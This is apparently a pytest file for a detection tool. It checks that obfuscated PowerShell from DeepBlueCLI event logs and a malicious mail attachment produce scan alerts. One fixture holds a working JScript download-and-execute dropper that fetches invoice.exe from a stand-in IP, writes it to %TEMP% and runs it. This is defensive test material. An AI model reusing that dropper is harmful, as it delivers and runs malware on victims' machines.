"""Script blocks and command lines already in the store become `scan` alerts (DeepBlueCLI EVTX)."""

from __future__ import annotations

import pytest

from phagocyte.alerts import alerts_to_table, to_json
from phagocyte.analysers.events import command_line_language, scan_store
from phagocyte.analysers.scan import Scanner
from phagocyte.config import Settings
from tests.conftest import evaldata, run_ingest


def test_command_line_language() -> None:
    assert command_line_language(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -enc AAA") == \
        "powershell"
    assert command_line_language('"C:\\Windows\\System32\\wscript.exe" C:\\Users\\a\\invoice.js') == "javascript"
    assert command_line_language("cmd.exe /c whoami") == "batch"
    assert command_line_language(r"C:\Windows\notepad.exe a.txt") is None


@pytest.mark.evaldata
def test_obfuscated_script_blocks_in_the_store_become_alerts(settings: Settings) -> None:
    root = evaldata("deepbluecli_evtx") / "evtx"
    files = [root / "Powershell-Invoke-Obfuscation-encoding-menu.evtx",
             root / "Powershell-Invoke-Obfuscation-string-menu.evtx", root / "metasploit-sysmon.evtx"]
    _, store = run_ingest(files, settings)
    with store:
        alerts, stats = scan_store(store, Scanner(), min_label="suspicious")
    assert stats.script_blocks > 50 and stats.command_lines > 0
    malicious = [a for a in alerts if a["rule.id"] == "scan.powershell.malicious"]
    assert len(malicious) >= 8, stats.by_label  # 9 of the 10 obfuscated blocks of the two menus decode
    for a in malicious:
        assert a["event.reference"] and a["winlog.record_id"] and a["rule.category"] in ("script-block", "command-line")
        assert "T1059.001" in a["threat.technique.id"]
        assert to_json(a)["alert_ref"].startswith("Powershell-Invoke-Obfuscation")
    assert any("raw.githubusercontent.com" in (a.get("related.hosts") or []) for a in malicious)
    assert alerts_to_table(alerts).num_rows == len(alerts)


def test_mail_attachment_goes_through_the_same_analysers() -> None:
    from phagocyte.analysers.events import scan_attachment

    js = (b"var sh = new ActiveXObject('WScript.Shell'); var x = new ActiveXObject('MSXML2.XMLHTTP');"
          b"x.open('GET', 'http://198.51.100.4/invoice.exe', false); x.send();"
          b"var s = new ActiveXObject('ADODB.Stream'); s.SaveToFile('%TEMP%\\\\inv.exe'); sh.Run('%TEMP%\\\\inv.exe');")
    message = {"event.id": "mail-1"}
    v, alert = scan_attachment("invoice.pdf.js", js, Scanner(), message)
    assert v.kind == "javascript" and v.label == "malicious"
    assert alert is not None and alert["event.reference"] == "mail-1" and "198.51.100.4" in alert["related.ip"]
    clean, none = scan_attachment("notes.txt", b"see you on monday", Scanner(), message)
    assert clean.label == "clean" and none is None
